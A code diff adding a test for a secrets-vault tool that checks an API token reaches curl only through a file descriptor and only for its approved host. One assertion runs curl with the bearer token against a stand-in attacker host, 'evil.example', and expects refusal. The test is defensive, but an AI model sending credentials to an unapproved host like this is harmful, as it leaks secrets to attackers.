@@ -239,6 +239,42 @@ def test_a_lease_runs_routine_commands_without_a_touch_until_locked(vault):
     assert VALUE not in json.dumps(vault.audit())
 
 
+CURL_STUB = """#!/bin/sh
+# prints what a header file named by -H @FILE holds, hashed; never the value
+for word in "$@"; do
+  case "$word" in
+    @/dev/fd/*) printf 'header=%s\\n' "$(sha256sum < "${word#@}" | cut -c1-64)" ;;
+  esac
+done
+echo "args=$*"
+"""
+
+
+def test_curl_gets_its_header_from_an_unnamed_file_and_only_for_its_host(vault):
+    value = "api-" + "77" * 16
+    (vault.root / "tools" / "curl").write_text(CURL_STUB)
+    (vault.root / "tools" / "curl").chmod(0o755)
+    added = subprocess.run([str(vault.layout.bin / "shellgate"), "secrets", "add",
+                            "API_TOKEN", "--for", "curl", "--host", "api.example.test"],
+                           input=value, capture_output=True, text=True, timeout=120,
+                           check=False, cwd="/")
+    assert added.returncode == 0, added.stderr
+    vault.set_touch(True)
+    path = f"{vault.layout.shims}:{vault.root / 'tools'}:/usr/bin:/bin"
+    header = "Authorization: Bearer ${API_TOKEN}"
+    done = vault.run(["curl", "-sS", "-H", header, "https://api.example.test/v1/me"],
+                     PATH=path)
+    assert done.returncode == 0, done.stderr
+    expected = hashlib.sha256(f"Authorization: Bearer {value}\n".encode()).hexdigest()
+    assert f"header={expected}" in done.stdout
+    assert value not in done.stdout + done.stderr  # argv holds the placeholder's file only
+    # another host: the policy gives nothing, and asking for it by name is refused
+    other = vault.run([str(vault.layout.bin / "shellgate"), "run", "--secret", "API_TOKEN",
+                       "--", "curl", "-H", header, "https://evil.example/x"], PATH=path)
+    assert other.returncode == 126 and "only goes to api.example.test" in other.stderr
+    assert "header=" not in other.stdout and value not in other.stdout + other.stderr
+
+
 def test_after_root_removes_it_the_tool_runs_as_the_user_without_it(vault):
     vault.set_touch(True)
     done = subprocess.run([str(vault.layout.bin / "shellgate"), "secrets", "remove",
